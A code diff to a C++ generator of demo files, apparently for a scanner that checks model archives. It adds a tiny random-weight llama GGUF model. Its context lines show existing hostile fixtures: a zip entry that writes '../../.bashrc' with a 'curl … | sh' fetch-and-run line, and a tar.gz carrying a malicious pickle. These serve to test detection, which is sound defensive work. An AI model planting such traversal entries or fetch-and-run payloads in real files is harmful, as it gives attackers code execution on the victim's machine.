@@ -3,6 +3,7 @@
 //   usage: airlock-demo-gen OUT_DIR
 #include <cstdint>
 #include <cstdio>
+#include <cstring>
 #include <filesystem>
 #include <string>
 
@@ -293,6 +294,84 @@ std::string DemoTarGz(const std::vector<std::pair<std::string, std::string>>& fi
   return buf;
 }
 
+// A tiny runnable llama model (2 layers, 64-wide, random F32 weights) whose 64-word vocabulary
+// makes its random output readable words: it shows the engine running end to end, not a model
+// that knows anything.
+std::string TinyRunnableModel() {
+  static const char* kWords[] = {
+      "the", "a", "cat", "dog", "sat", "ran", "on", "under", "mat", "tree", "big", "small",
+      "red", "blue", "and", "then", "it", "was", "happy", "sad", "day", "night", "sun", "moon",
+      "bird", "sang", "song", "in", "park", "house", "girl", "boy", "played", "with", "ball",
+      "friend", "saw", "went", "home", "to", "ate", "cake", "jumped", "over", "river", "fish",
+      "swam", "far", "away", "one", "two", "three", "green", "hill", "walked", "slowly", "fast",
+      "laughed", "smiled", "said", "hello", "goodbye", "story", "end"};
+  const int n_embd = 64, n_ff = 128, n_layer = 2, n_head = 4, n_head_kv = 2;
+  const int head_dim = n_embd / n_head;
+  std::vector<std::string> tokens = {"<unk>", "<s>", "</s>"};
+  for (const char* w : kWords) tokens.push_back(std::string("\xe2\x96\x81") + w);  // U+2581 + word
+  const int n_vocab = static_cast<int>(tokens.size());
+  std::vector<float> scores(n_vocab, 0.0f);
+  std::vector<std::int32_t> types(n_vocab, 1);
+  types[0] = 2;
+  types[1] = types[2] = 3;
+  gguf::Writer w;
+  w.AddString("general.architecture", "llama");
+  w.AddString("general.name", "airlock-demo-tiny-random");
+  w.AddString("general.license", "apache-2.0");
+  w.AddUint32("llama.context_length", 256);
+  w.AddUint32("llama.embedding_length", n_embd);
+  w.AddUint32("llama.block_count", n_layer);
+  w.AddUint32("llama.feed_forward_length", n_ff);
+  w.AddUint32("llama.attention.head_count", n_head);
+  w.AddUint32("llama.attention.head_count_kv", n_head_kv);
+  w.AddUint32("llama.rope.dimension_count", head_dim);
+  w.AddFloat32("llama.attention.layer_norm_rms_epsilon", 1e-5f);
+  w.AddString("tokenizer.ggml.model", "llama");
+  w.AddStringArray("tokenizer.ggml.tokens", tokens);
+  w.AddFloat32Array("tokenizer.ggml.scores", scores);
+  w.AddInt32Array("tokenizer.ggml.token_type", types);
+  w.AddUint32("tokenizer.ggml.unknown_token_id", 0);
+  w.AddUint32("tokenizer.ggml.bos_token_id", 1);
+  w.AddUint32("tokenizer.ggml.eos_token_id", 2);
+  std::uint64_t state = 0x9e3779b97f4a7c15ull;
+  auto random_f32 = [&state](std::size_t n, float scale) {
+    std::vector<std::byte> bytes(n * 4);
+    for (std::size_t i = 0; i < n; ++i) {
+      state = state * 6364136223846793005ull + 1442695040888963407ull;
+      float v = (static_cast<float>(state >> 40) / 16777216.0f - 0.5f) * 2 * scale;
+      std::memcpy(&bytes[i * 4], &v, 4);
+    }
+    return bytes;
+  };
+  auto ones = [](std::size_t n) {
+    std::vector<std::byte> bytes(n * 4);
+    float one = 1.0f;
+    for (std::size_t i = 0; i < n; ++i) std::memcpy(&bytes[i * 4], &one, 4);
+    return bytes;
+  };
+  using U = std::uint64_t;
+  auto add = [&](const std::string& name, std::vector<U> ne, std::vector<std::byte> data) {
+    w.AddTensor(name, gguf::GgmlType::kF32, std::move(ne), data);
+  };
+  add("token_embd.weight", {U(n_embd), U(n_vocab)}, random_f32(n_embd * n_vocab, 1.0f));
+  add("output_norm.weight", {U(n_embd)}, ones(n_embd));
+  add("output.weight", {U(n_embd), U(n_vocab)}, random_f32(n_embd * n_vocab, 0.5f));
+  const int kv = n_head_kv * head_dim;
+  for (int l = 0; l < n_layer; ++l) {
+    std::string b = "blk." + std::to_string(l) + ".";
+    add(b + "attn_norm.weight", {U(n_embd)}, ones(n_embd));
+    add(b + "attn_q.weight", {U(n_embd), U(n_embd)}, random_f32(n_embd * n_embd, 0.2f));
+    add(b + "attn_k.weight", {U(n_embd), U(kv)}, random_f32(n_embd * kv, 0.2f));
+    add(b + "attn_v.weight", {U(n_embd), U(kv)}, random_f32(n_embd * kv, 0.2f));
+    add(b + "attn_output.weight", {U(n_embd), U(n_embd)}, random_f32(n_embd * n_embd, 0.2f));
+    add(b + "ffn_norm.weight", {U(n_embd)}, ones(n_embd));
+    add(b + "ffn_gate.weight", {U(n_embd), U(n_ff)}, random_f32(n_embd * n_ff, 0.2f));
+    add(b + "ffn_up.weight", {U(n_embd), U(n_ff)}, random_f32(n_embd * n_ff, 0.2f));
+    add(b + "ffn_down.weight", {U(n_ff), U(n_embd)}, random_f32(n_ff * n_embd, 0.2f));
+  }
+  return w.Build();
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
@@ -335,5 +414,6 @@ int main(int argc, char** argv) {
               DemoZip({{"../../.bashrc", "curl http://example.invalid/x | sh\n", ""}}));
   ok &= Write(out / "malicious" / "model.tar.gz",
               DemoTarGz({{"model/os_system.pkl", MaliciousPickle()}}));
+  ok &= Write(out / "model" / "tiny-random-llama.gguf", TinyRunnableModel());
   return ok ? 0 : 1;
 }
